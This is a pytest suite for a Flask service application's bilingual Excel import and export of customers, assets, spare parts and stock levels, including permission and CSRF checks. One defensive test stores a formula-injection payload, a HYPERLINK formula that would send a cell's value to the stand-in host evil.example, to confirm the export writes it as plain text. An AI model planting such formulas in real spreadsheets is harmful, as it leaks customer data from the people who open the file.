"""Excel import and export (Excel 导入导出): customers, assets, spare parts and stock.

What a clerk, a manager or a warehouse keeper sees: an export that imports again unchanged, headers in
their language (and either language accepted), every wrong cell named by row, column and reason, nothing
half-imported, no duplicates on a second import, stock counts booked as stock movements; the same from the
command line (exit codes, the report) and the web upload (permissions, progress lines, form errors)."""
import io
import json
import os
import re
import uuid
from decimal import Decimal

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import func, select

from app.extensions import db
from app.models import Asset, Customer, Product, ServiceRegion, SparePart, Stock, StockMove, Warehouse
from app.services import spreadsheets
from app.services.spreadsheets import KINDS
from tests.conftest import PASSWORDS, csrf_token_of, login
from tests.helpers import NOW, user

ZH_CUSTOMER_HEADER = ["客户姓名", "手机号码", "邮箱", "客户等级", "区域", "地址"]
EN_CUSTOMER_HEADER = ["Customer name", "Mobile phone", "E-mail address", "Tier", "Region", "Address"]


def tag() -> str:
    """A prefix of its own for one test's rows: the session's database is shared by every test."""
    return "T" + uuid.uuid4().hex[:8]


def phone() -> str:
    return f"139{uuid.uuid4().int % 10 ** 8:08d}"


def book(tmp_path, header, rows, name="data.xlsx", above=()) -> str:
    """A workbook as a person makes it in Excel: optional lines above the header, then the rows."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for line in above:
        sheet.append(line)
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    path = tmp_path / name
    workbook.save(path)
    return str(path)


def read_book(source) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source, read_only=True)
    rows = [tuple(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    workbook.close()
    return rows


def run(session, kind, path, lang="zh", **options):
    """Import as the console does: commit a clean import, roll back anything else."""
    with force_locale(lang):
        result = spreadsheets.run_import(session, KINDS[kind], path, filename=os.path.basename(path), now=NOW,
                                         **options)
    if result.ok and not result.dry_run:
        session.commit()
    else:
        session.rollback()
    return result


def sentences(result, lang="zh") -> list[str]:
    with force_locale(lang):
        return [e.sentence() for e in result.errors]


def export(session, kind, path, lang="zh", only=None) -> str:
    with force_locale(lang):
        spreadsheets.export(session, KINDS[kind], path, only=only)
    return path


def tagged_customers(session, prefix):
    return session.scalars(select(Customer).where(Customer.name.like(f"{prefix}%")).order_by(Customer.id)).all()


def region(session, code):
    return session.scalar(select(ServiceRegion).where(ServiceRegion.code == code))


# ---------------------------------------------------------------- customers

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_customers_export_in_the_readers_language_and_import_again_unchanged(session, tmp_path, lang):
    prefix = tag()
    chaoyang = region(session, "110105")
    session.add_all([
        Customer(name=f"{prefix}张伟", phone=phone(), email=f"{prefix.lower()}@example.com", tier="vip",
                 region=chaoyang, address="北京市朝阳区望京西路 8 号", latitude=39.99, longitude=116.47,
                 preferred_channel="wechat", sms_opt_out=True),
        Customer(name=f"{prefix}李娜", phone=phone(), preferred_language="en", notes="只在晚上联系"),
    ])
    session.commit()
    only = select(Customer.id).where(Customer.name.like(f"{prefix}%"))
    path = export(session, "customers", str(tmp_path / "customers.xlsx"), lang, only=only)

    rows = read_book(path)
    header = dict(zip(rows[0], rows[1]))
    if lang == "zh":
        assert rows[0][:4] == ("客户姓名", "手机号码", "邮箱", "客户等级")
        assert header["客户等级"] == "VIP客户" and header["区域"] == "北京市 / 北京市辖区 / 朝阳区"
        assert header["首选联系渠道"] == "微信" and header["不接收短信（已退订）"] == "是"
    else:
        assert rows[0][:4] == ("Customer name", "Mobile phone", "E-mail address", "Tier")
        assert header["Tier"] == "VIP" and header["Region"] == "Beijing / Beijing (city) / Chaoyang"
    assert len(rows) == 3

    result = run(session, "customers", path, lang)
    assert (result.ok, result.rows, result.created, result.updated, result.unchanged) == (True, 2, 0, 0, 2)

    # Edited in Excel: the second customer becomes VIP — that one row is updated, the other left alone.
    workbook = openpyxl.load_workbook(path)
    workbook.active.cell(row=3, column=4).value = "VIP"
    workbook.save(path)
    result = run(session, "customers", path, lang)
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    session.expire_all()
    first, second = tagged_customers(session, prefix)
    assert second.tier == "vip" and second.notes == "只在晚上联系" and second.preferred_language == "en"
    assert first.region_id == chaoyang.id and first.sms_opt_out is True and first.latitude == 39.99


def test_a_customer_text_that_looks_like_a_formula_is_exported_as_text(session, tmp_path):
    """A name typed on the portal must not become a live formula in a manager's workbook."""
    prefix = tag()
    evil = f'=HYPERLINK("http://evil.example/?"&B2,"{prefix}点此")'
    session.add(Customer(name=evil, phone=phone(), address="+1 这是地址"))
    session.commit()
    only = select(Customer.id).where(Customer.name == evil)
    path = export(session, "customers", str(tmp_path / "customers.xlsx"), "zh", only=only)
    sheet = openpyxl.load_workbook(path).active
    name, address = sheet.cell(row=2, column=1), sheet.cell(row=2, column=[c.value for c in sheet[1]].index("地址") + 1)
    assert (name.value, name.data_type) == (evil, "s")
    assert (address.value, address.data_type) == ("+1 这是地址", "s")
    result = run(session, "customers", path, "zh")
    assert (result.ok, result.unchanged) == (True, 1)


def test_a_new_file_adds_customers_and_importing_it_again_adds_no_duplicates(session, tmp_path):
    prefix, numbers = tag(), [phone() for _ in range(3)]
    path = book(tmp_path, ZH_CUSTOMER_HEADER, [
        [f"{prefix}王芳", f"+86 {numbers[0][:3]} {numbers[0][3:7]} {numbers[0][7:]}", "WANG@Example.com", "VIP",
         "110105", "望京西路 1 号"],
        [f"{prefix}赵磊", int(numbers[1]), None, "普通", "朝阳区", None],
        [f"{prefix}孙丽", numbers[2], None, None, "北京市 / 北京市辖区 / 朝阳区", "建国路 88 号"],
    ])
    first = run(session, "customers", path)
    assert (first.ok, first.created, first.updated, first.unchanged) == (True, 3, 0, 0)
    again = run(session, "customers", path)
    assert (again.ok, again.created, again.updated, again.unchanged) == (True, 0, 0, 3)

    stored = tagged_customers(session, prefix)
    assert [c.phone for c in stored] == numbers  # +86 and spaces, or a number cell: one canonical form
    assert stored[0].email == "wang@example.com" and stored[0].tier == "vip"
    assert stored[1].tier == "normal" and stored[2].tier == "normal"  # an empty cell: the default
    assert {c.region.code for c in stored} == {"110105"}
    assert stored[1].address is None


@pytest.mark.parametrize("lang, header, expected", [
    ("zh", ZH_CUSTOMER_HEADER, "第 7 行，手机号码：不是有效的电话号码"),
    ("en", EN_CUSTOMER_HEADER, "Row 7, Mobile phone: Not a valid phone number"),
])
def test_one_bad_row_names_row_column_and_reason_and_nothing_is_imported(session, tmp_path, lang, header, expected):
    prefix = tag()
    good = [[f"{prefix}客户{i}", phone(), None, None, None, None] for i in range(5)]  # Excel rows 2–6
    path = book(tmp_path, header, good + [[f"{prefix}坏号码", "1234", None, None, None, None]])

    result = run(session, "customers", path, lang)

    assert not result.ok and result.rows == 6
    assert sentences(result, lang) == [expected]
    error = result.errors[0]
    assert (error.row, error.column) == (7, header[1])
    assert tagged_customers(session, prefix) == []  # the five good rows were not stored either


def test_every_wrong_cell_is_reported_in_row_order_with_duplicates_inside_the_file(session, tmp_path):
    prefix, number = tag(), phone()
    path = book(tmp_path, ZH_CUSTOMER_HEADER, [
        [f"{prefix}甲", number, "not-an-address", "黄金会员", None, None],    # row 2: e-mail and tier
        [None, phone(), None, None, None, None],                              # row 3: no name for a new customer
        [f"{prefix}乙", f"{number[:3]}-{number[3:7]}-{number[7:]}", None, None, "火星区", None],  # row 4: repeat + region
    ])

    result = run(session, "customers", path)

    assert sentences(result) == [
        "第 2 行，邮箱：不是有效的邮箱地址",
        "第 2 行，客户等级：只能填写：VIP客户、普通客户",
        "第 3 行，客户姓名：不能为空",
        "第 4 行，手机号码：与第 2 行重复",
        "第 4 行，区域：没有这个区域",
    ]
    assert tagged_customers(session, prefix) == []


def test_headers_in_either_language_a_title_above_and_unknown_columns_are_ignored(session, tmp_path):
    prefix, number = tag(), phone()
    path = book(tmp_path, ["Customer name", "手机", "Tier", "微信昵称"],
                [[f"{prefix}周杰", number, "vip", "小周"]], above=[["2026 年 11 月 经销商客户名单"], []])

    result = run(session, "customers", path)

    assert (result.ok, result.created) == (True, 1)
    assert result.ignored_columns == ["微信昵称"]
    assert session.scalar(select(Customer.tier).where(Customer.phone == number)) == "vip"


def test_a_customer_number_two_customers_share_is_refused_not_guessed(session, tmp_path):
    prefix, number = tag(), phone()
    session.add_all([Customer(name=f"{prefix}一", phone=number), Customer(name=f"{prefix}二", phone=number)])
    session.commit()
    path = book(tmp_path, ZH_CUSTOMER_HEADER, [[f"{prefix}三", number, None, None, None, None]])

    result = run(session, "customers", path)

    assert sentences(result) == ["第 2 行，手机号码：有 2 位客户使用这个号码，请先在系统中合并或修改"]
    assert [c.name for c in tagged_customers(session, prefix)] == [f"{prefix}一", f"{prefix}二"]


# ---------------------------------------------------------------- assets, parts

def test_assets_round_trip_and_their_references_are_checked(session, tmp_path):
    prefix, number = tag(), phone()
    session.add(Customer(name=f"{prefix}业主", phone=number))
    session.commit()
    path = book(tmp_path, ["序列号", "产品型号", "客户手机号", "安装日期", "保修截止", "安装位置"], [
        [f"{prefix}-SN1", "JSQ30-16A", number, "2025/3/8", "2028年3月7日", "厨房"],
        [f"{prefix}-SN2", "电热水器 80升", number, None, None, None],  # a product by its unique name
    ])
    created = run(session, "assets", path)
    assert (created.ok, created.created) == (True, 2)
    first = session.scalar(select(Asset).where(Asset.serial_number == f"{prefix}-SN1"))
    assert first.product.model == "JSQ30-16A" and first.customer.phone == number
    assert first.install_date.isoformat() == "2025-03-08" and first.warranty_end.isoformat() == "2028-03-07"

    only = select(Asset.id).where(Asset.serial_number.like(f"{prefix}%"))
    exported = export(session, "assets", str(tmp_path / "assets.xlsx"), only=only)
    rows = read_book(exported)
    assert rows[0][:5] == ("序列号", "产品型号", "产品名称", "客户手机号", "所属客户")
    assert rows[2][:5] == (f"{prefix}-SN2", "F80-D30", "电热水器 80升", number, f"{prefix}业主")
    again = run(session, "assets", exported)
    assert (again.ok, again.created, again.updated, again.unchanged) == (True, 0, 0, 2)

    wrong = book(tmp_path, ["序列号", "产品型号", "客户手机号", "安装日期"], [
        [f"{prefix}-SN3", "NO-SUCH-1", "13900000000", "下个月"],
    ], name="wrong.xlsx")
    result = run(session, "assets", wrong)
    assert sentences(result) == [
        "第 2 行，产品型号：没有这个型号的产品",
        "第 2 行，客户手机号：没有使用这个号码的客户，请先导入客户",
        "第 2 行，安装日期：不是有效的日期（请写成 2026-05-01）",
    ]


def test_spare_parts_round_trip_with_their_compatible_models(session, tmp_path):
    prefix = tag()
    path = book(tmp_path, ["备件编码", "名称（中文）", "单价（元）", "适用产品"], [
        [f"{prefix}-A", "测试滤芯", 45.5, "RO-600G、UF-200"],
        [f"{prefix}-B", "测试电容", "¥12", None],
    ])
    created = run(session, "parts", path)
    assert (created.ok, created.created) == (True, 2)
    part = session.scalar(select(SparePart).where(SparePart.sku == f"{prefix}-A"))
    assert part.name_en == "测试滤芯" and part.unit == "个" and part.price == Decimal("45.50")
    assert sorted(p.model for p in part.products) == ["RO-600G", "UF-200"]

    only = select(SparePart.id).where(SparePart.sku.like(f"{prefix}%"))
    exported = export(session, "parts", str(tmp_path / "parts.xlsx"), "en", only=only)
    rows = read_book(exported)
    assert rows[0] == ("SKU", "Name (Chinese)", "Name (English)", "Unit", "Price (CNY)", "Compatible products")
    assert rows[1][5] == "RO-600G、UF-200"
    again = run(session, "parts", exported, "en")
    assert (again.ok, again.unchanged) == (True, 2)

    workbook = openpyxl.load_workbook(exported)
    workbook.active.cell(row=2, column=6).value = "RO-600G, NOPE-9"
    workbook.active.cell(row=3, column=5).value = "12.345"
    workbook.save(exported)
    result = run(session, "parts", exported, "en")
    assert sentences(result, "en") == ["Row 2, Compatible products: No product with the model NOPE-9",
                                       "Row 3, Price (CNY): At most 2 decimal places"]


def test_a_serial_number_someone_else_stores_while_the_file_is_checked_stops_the_whole_import(session, tmp_path):
    from sqlalchemy.orm import Session

    prefix = tag()
    path = book(tmp_path, ["序列号", "产品型号"], [[f"{prefix}-1", "JSQ30-16A"], [f"{prefix}-2", "JSQ30-16A"]])
    events = spreadsheets.import_sheet(session, KINDS["assets"], path, filename="a.xlsx", now=NOW)
    for event in events:  # checked and about to write…
        if isinstance(event, spreadsheets.Progress) and event.phase == "write":
            break
    with Session(db.engine) as clerk:  # …when a clerk saves one of the devices in the console
        product_id = clerk.scalar(select(Product.id).where(Product.model == "JSQ30-16A"))
        clerk.add(Asset(serial_number=f"{prefix}-2", product_id=product_id))
        clerk.commit()

    with force_locale("zh"):
        result = next(e for e in events if isinstance(e, spreadsheets.Finished)).result
        session.rollback()
        assert [e.sentence() for e in result.errors] == [
            "有人同时保存了其中部分记录，本次未导入任何数据，请重新导入该文件。"]
    assert result.created == 0
    assert session.scalars(select(Asset.serial_number).where(Asset.serial_number.like(f"{prefix}%"))).all() == \
        [f"{prefix}-2"]


# ---------------------------------------------------------------- stock

def new_part(session, prefix) -> SparePart:
    part = SparePart(sku=f"{prefix}-P", name_zh="测试压缩机电容", name_en="Test capacitor", price=Decimal("30"))
    session.add(part)
    session.commit()
    return part


def moves_of(session, part):
    return session.execute(select(Warehouse.code, StockMove.kind, StockMove.quantity, StockMove.reason)
                           .join(Warehouse, Warehouse.id == StockMove.warehouse_id)
                           .where(StockMove.part_id == part.id).order_by(StockMove.id)).all()


def test_a_stock_count_is_booked_as_stock_movements_and_never_below_what_is_reserved(session, tmp_path):
    prefix = tag()
    part = new_part(session, prefix)
    header = ["仓库编码", "备件编码", "在库数量", "低库存预警值"]
    path = book(tmp_path, header, [["WH-BJ", part.sku, 7, 2], ["上海中心仓", part.sku, 0, 1]], name="count-1.xlsx")

    result = run(session, "stock", path, actor=user(session, "warehouse"))

    assert (result.ok, result.created) == (True, 2)
    assert moves_of(session, part) == [("WH-BJ", "adjust", 7, "Excel 导入：count-1.xlsx")]
    beijing = session.scalar(select(Stock).join(Warehouse).where(Warehouse.code == "WH-BJ", Stock.part_id == part.id))
    assert (beijing.on_hand, beijing.reserved, beijing.low_stock_threshold) == (7, 0, 2)
    assert session.scalar(select(StockMove.actor_user_id).where(StockMove.part_id == part.id)) == \
        user(session, "warehouse").id

    # Recounted: 5. The difference is a movement; a re-import of the same count books nothing.
    recount = book(tmp_path, header, [["WH-BJ", part.sku, 5, 2]], name="count-2.xlsx")
    assert run(session, "stock", recount).updated == 1
    assert run(session, "stock", recount).unchanged == 1
    assert moves_of(session, part)[1:] == [("WH-BJ", "adjust", -2, "Excel 导入：count-2.xlsx")]

    # Tickets hold 4 of them: a count of 3 cannot be right.
    session.execute(Stock.__table__.update().where(Stock.id == beijing.id).values(reserved=4))
    session.commit()
    short = book(tmp_path, header, [["WH-BJ", part.sku, 3, 2]], name="count-3.xlsx")
    result = run(session, "stock", short)
    assert sentences(result) == ["第 2 行，在库数量：少于工单已预留的 4 件"]
    session.expire_all()
    assert session.get(Stock, beijing.id).on_hand == 5 and len(moves_of(session, part)) == 2


def test_a_count_below_the_low_stock_line_keeps_the_line_and_the_part_shows_as_low(app, session, tmp_path):
    prefix = tag()
    part = new_part(session, prefix)
    first = book(tmp_path, ["仓库编码", "备件编码", "在库数量", "低库存预警值"], [["WH-SH", part.sku, 10, 3]],
                 name="first.xlsx")
    assert run(session, "stock", first).created == 1
    # Counted again without the threshold column: 2 left, below the line of 3.
    recount = book(tmp_path, ["仓库编码", "备件编码", "在库数量"], [["WH-SH", part.sku, 2]], name="recount.xlsx")
    assert run(session, "stock", recount).updated == 1

    row = session.scalar(select(Stock).where(Stock.part_id == part.id))
    assert (row.on_hand, row.low_stock_threshold) == (2, 3)
    assert [(kind, quantity) for _w, kind, quantity, _r in moves_of(session, part)] == [("adjust", 10), ("adjust", -8)]
    low = login(app.test_client(), "warehouse").get("/lowstockview/list/").get_data(as_text=True)
    assert part.sku in low


def test_stock_exports_with_names_and_reserved_and_imports_again_unchanged(session, tmp_path):
    prefix = tag()
    part = new_part(session, prefix)
    run(session, "stock", book(tmp_path, ["仓库编码", "备件编码", "在库数量"], [["WH-GZ", part.sku, 9]]))
    only = select(Stock.id).where(Stock.part_id == part.id)
    exported = export(session, "stock", str(tmp_path / "stock.xlsx"), only=only)
    rows = read_book(exported)
    assert rows == [("仓库编码", "仓库", "备件编码", "备件", "在库数量", "已预留", "可用", "低库存预警值"),
                    ("WH-GZ", "广州仓", part.sku, "测试压缩机电容", 9, 0, 9, 0)]
    again = run(session, "stock", exported)
    assert (again.ok, again.unchanged) == (True, 1)

    wrong = book(tmp_path, ["仓库编码", "备件编码", "在库数量"], [["WH-XX", part.sku, -1], ["WH-GZ", "NOPE", "三"]],
                 name="wrong.xlsx")
    assert sentences(run(session, "stock", wrong)) == [
        "第 2 行，仓库编码：没有这个仓库",
        "第 2 行，在库数量：不能小于 0",
        "第 3 行，备件编码：没有这个编码的备件，请先导入备件",
        "第 3 行，在库数量：不是整数",
    ]


# ---------------------------------------------------------------- whole-file problems

def test_files_that_cannot_be_imported_say_why(session, tmp_path):
    def problem(path, **options):
        with pytest.raises(spreadsheets.FileProblem) as caught:
            with force_locale("zh"):
                spreadsheets.run_import(session, KINDS["customers"], path, filename="x", now=NOW, **options)
            session.rollback()
        with force_locale("zh"):
            return str(caught.value)

    csv = tmp_path / "customers.csv"
    csv.write_text("姓名,手机号\n张三,13800138000\n", encoding="utf-8")
    assert problem(str(csv)) == "这不是 Excel 工作簿（.xlsx）文件。"
    xls = tmp_path / "old.xls"
    xls.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert problem(str(xls)) == "这是旧版 Excel 文件（.xls）。请另存为 Excel 工作簿（.xlsx）后重新上传。"
    assert problem(book(tmp_path, ["客户姓名", "地址"], [["张三", "北京"]], name="nokey.xlsx")) == "缺少“手机号码”列。"
    assert problem(book(tmp_path, ["甲", "乙"], [["1", "2"]], name="noheader.xlsx")).startswith("找不到表头。")
    many = book(tmp_path, ["客户姓名", "手机号码"], [[f"客户{i}", phone()] for i in range(30)], name="many.xlsx")
    assert problem(many, limits=spreadsheets.Limits(max_rows=20)) == "文件超过 20 行，请拆分成几个小文件。"


# ---------------------------------------------------------------- command line

def test_cli_exports_imports_and_reports_bad_rows_with_exit_code_1(app, session, tmp_path):
    runner = app.test_cli_runner()
    prefix = tag()
    path = book(tmp_path, EN_CUSTOMER_HEADER, [[f"{prefix}Lee", phone(), None, "Normal", None, None]])

    checked = runner.invoke(args=["import", "customers", path, "--dry-run", "--lang", "en"])
    assert checked.exit_code == 0, checked.output
    assert "Checked 1 rows, nothing written: 1 would be added, 0 updated, 0 unchanged." in checked.output
    assert tagged_customers(session, prefix) == []

    done = runner.invoke(args=["import", "customers", path])
    assert done.exit_code == 0, done.output
    assert "已导入 1 行：新增 1 条，更新 0 条，0 条无变化。" in done.output
    assert [c.name for c in tagged_customers(session, prefix)] == [f"{prefix}Lee"]

    bad = book(tmp_path, ZH_CUSTOMER_HEADER, [[f"{prefix}甲", phone(), None, None, None, None],
                                              [f"{prefix}乙", "12", None, None, None, None]], name="bad.xlsx")
    report = str(tmp_path / "report.xlsx")
    failed = runner.invoke(args=["import", "customers", bad, "--report", report])
    assert failed.exit_code == 1
    assert "发现 1 处错误，未导入任何数据。" in failed.output
    assert f"出错的行及错误说明见 {report}。" in failed.output
    assert "第 3 行，手机号码：不是有效的电话号码" in failed.output
    assert [c.name for c in tagged_customers(session, prefix)] == [f"{prefix}Lee"]
    marked = read_book(report)
    assert marked[0][-1] == "错误" and marked[1][-1] is None
    assert marked[2][:2] == (f"{prefix}乙", "12") and marked[2][-1] == "第 3 行，手机号码：不是有效的电话号码"

    csv = tmp_path / "x.csv"
    csv.write_text("a,b\n", encoding="utf-8")
    refused = runner.invoke(args=["import", "customers", str(csv), "--lang", "en"])
    assert refused.exit_code == 1 and "The file is not an Excel workbook (.xlsx)." in refused.output

    nobody = runner.invoke(args=["import", "customers", path, "--user", "nobody"])
    assert nobody.exit_code == 2 and "没有名为 nobody 的登录账号。" in nobody.output

    exported = str(tmp_path / "parts.xlsx")
    result = runner.invoke(args=["export", "parts", exported, "--lang", "en"])
    assert result.exit_code == 0, result.output
    count = session.scalar(select(func.count(SparePart.id)))
    assert f"{count} rows written to {exported}." in result.output
    assert len(read_book(exported)) == count + 1


# ---------------------------------------------------------------- the web

def upload(client, kind, path, *, stream=False, lang=None, **fields):
    with open(path, "rb") as fh:
        data = {"file": (io.BytesIO(fh.read()), os.path.basename(path)), **fields}
    url = f"/sheets/{kind}/import" + (f"?_l_={lang}" if lang else "")
    headers = {"Accept": "application/x-ndjson"} if stream else {}
    return client.post(url, data=data, headers=headers, content_type="multipart/form-data")


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_who_sees_the_excel_buttons_and_who_may_use_them(app):
    expected = {  # (customers: import, export), (stock: import, export)
        "manager": ((200, 200), (403, 200)),
        "clerk": ((200, 403), (403, 403)),
        "warehouse": ((403, 403), (200, 200)),
        "engineer": ((403, 403), (403, 403)),
    }
    for username, ((c_import, c_export), (s_import, s_export)) in expected.items():
        client = login(app.test_client(), username)
        outcome = ((client.get("/sheets/customers/import").status_code,
                    client.get("/sheets/customers/export").status_code),
                   (client.get("/sheets/stock/import").status_code, client.get("/sheets/stock/export").status_code))
        assert outcome == expected[username], username
        if c_import == 403:
            refused = client.post("/sheets/customers/import", data={"file": (io.BytesIO(b"x"), "x.xlsx")},
                                  content_type="multipart/form-data")
            assert refused.status_code == 403, username
    manager_list = login(app.test_client(), "manager").get("/customerview/list/").get_data(as_text=True)
    assert "从 Excel 导入" in manager_list and "导出 Excel" in manager_list
    clerk_list = login(app.test_client(), "clerk").get("/customerview/list/").get_data(as_text=True)
    assert "从 Excel 导入" in clerk_list and "导出 Excel" not in clerk_list
    keeper_parts = login(app.test_client(), "warehouse").get("/sparepartview/list/").get_data(as_text=True)
    assert 'href="/sheets/parts/import"' in keeper_parts and 'href="/sheets/parts/export"' in keeper_parts


def test_manager_uploads_a_file_and_sees_the_counts(app, session, tmp_path):
    prefix = tag()
    client = login(app.test_client(), "manager")
    path = book(tmp_path, ZH_CUSTOMER_HEADER, [[f"{prefix}甲", phone(), None, "VIP", None, None],
                                               [f"{prefix}乙", phone(), None, None, None, None]])

    page = upload(client, "customers", path)

    assert page.status_code == 200
    shown = text_of(page.get_data(as_text=True))
    assert "data.xlsx 导入完成：共 2 行。" in shown
    assert "新增 2" in shown and "更新 0" in shown and "无变化 0" in shown
    assert len(tagged_customers(session, prefix)) == 2

    checked = upload(client, "customers", path, dry_run="y")
    assert "data.xlsx 检查完毕：2 行全部无误。未写入任何数据。" in text_of(checked.get_data(as_text=True))


def test_the_browser_upload_streams_progress_lines_then_the_result(app, session, tmp_path):
    prefix = tag()
    client = login(app.test_client(), "manager")
    rows = [[f"{prefix}{i}", phone(), None, None, None, None] for i in range(2500)]
    path = book(tmp_path, ZH_CUSTOMER_HEADER, rows)

    response = upload(client, "customers", path, stream=True)

    assert response.status_code == 200 and response.mimetype == "application/x-ndjson"
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    progress = [(m["phase"], m["done"]) for m in lines if m["type"] == "progress"]
    assert ("read", 1000) in progress and ("read", 2500) in progress and ("write", 2500) in progress
    assert [p for p, _done in progress] == sorted((p for p, _done in progress), key=["read", "check", "write"].index)
    assert lines[-1]["type"] == "result" and lines[-1]["ok"] is True
    assert "新增" in lines[-1]["html"] and ">2500<" in lines[-1]["html"]
    assert len(tagged_customers(session, prefix)) == 2500


def test_a_bad_upload_shows_the_error_table_and_the_marked_file_downloads(app, session, tmp_path):
    prefix = tag()
    client = login(app.test_client(), "manager")
    path = book(tmp_path, EN_CUSTOMER_HEADER, [[f"{prefix}A", phone(), None, None, None, None],
                                               [f"{prefix}B", phone(), "bad@", None, None, None]])

    response = upload(client, "customers", path, stream=True, lang="en")

    result = json.loads(response.get_data(as_text=True).splitlines()[-1])
    assert result["type"] == "result" and result["ok"] is False
    table = text_of(result["html"])
    assert "1 problems in data.xlsx: nothing was imported." in table
    assert "Row Column What is wrong 3 E-mail address Not a valid e-mail address" in table
    assert tagged_customers(session, prefix) == []

    with open(path, "rb") as fh:
        report = client.post("/sheets/customers/report?_l_=en", data={"file": (fh, "data.xlsx")},
                             content_type="multipart/form-data")
    assert report.status_code == 200 and "errors.xlsx" in report.headers["Content-Disposition"]
    marked = read_book(report.data)
    assert marked[0][-1] == "Errors" and marked[2][-1] == "Row 3, E-mail address: Not a valid e-mail address"


def test_an_upload_that_is_not_a_workbook_is_a_form_error(app, tmp_path):
    client = login(app.test_client(), "manager")
    fake = tmp_path / "customers.xlsx"
    fake.write_text("姓名,手机号\n", encoding="utf-8")

    page = upload(client, "customers", str(fake))
    assert page.status_code == 400
    assert "这不是 Excel 工作簿（.xlsx）文件。" in page.get_data(as_text=True)

    streamed = upload(client, "customers", str(fake), stream=True, lang="en")
    assert streamed.status_code == 400
    assert json.loads(streamed.get_data(as_text=True)) == {"type": "error",
                                                           "message": "The file is not an Excel workbook (.xlsx)."}
    empty = client.post("/sheets/customers/import", data={}, content_type="multipart/form-data")
    assert empty.status_code == 400 and "请选择要上传的 Excel 文件（.xlsx）。" in empty.get_data(as_text=True)


def test_export_follows_the_lists_search_filters_and_the_template_explains_the_columns(app, session):
    prefix = tag()
    session.add_all([Customer(name=f"{prefix}甲", phone=phone()), Customer(name=f"{prefix}乙", phone=phone())])
    session.commit()
    client = login(app.test_client(), "manager")

    listed = client.get(f"/customerview/list/?_flt_0_name={prefix}").get_data(as_text=True)
    link = re.search(r'id="export-link"\s+href="([^"]+)"', listed).group(1).replace("&amp;", "&")
    exported = client.get(link)
    assert exported.status_code == 200
    assert [r[0] for r in read_book(exported.data)[1:]] == [f"{prefix}甲", f"{prefix}乙"]

    template = client.get("/sheets/customers/template")
    workbook = openpyxl.load_workbook(io.BytesIO(template.data), read_only=True)
    assert [c.value for c in next(workbook.worksheets[0].iter_rows(max_row=1))][:2] == ["客户姓名", "手机号码"]
    notes = [tuple(r) for r in workbook.worksheets[1].iter_rows(values_only=True)]
    assert workbook.sheetnames[1] == "填写说明" and ("手机号码", "是") == notes[2][:2]


# ---------------------------------------------------------------- with CSRF protection, as in production

def test_the_upload_form_carries_its_csrf_token_and_a_forged_upload_is_refused(protected_app, tmp_path):
    client = protected_app.test_client()
    login_page = client.get("/login/").get_data(as_text=True)
    client.post("/login/", data={"username": "manager", "password": PASSWORDS["manager"],
                                 "csrf_token": csrf_token_of(login_page)})
    prefix = tag()
    path = book(tmp_path, ZH_CUSTOMER_HEADER, [[f"{prefix}甲", phone(), None, None, None, None]])

    assert upload(client, "customers", path).status_code == 400
    form = client.get("/sheets/customers/import").get_data(as_text=True)
    sent = upload(client, "customers", path, stream=True, csrf_token=csrf_token_of(form))
    assert sent.status_code == 200
    assert json.loads(sent.get_data(as_text=True).splitlines()[-1])["ok"] is True
    with protected_app.app_context():
        assert len(tagged_customers(db.session, prefix)) == 1
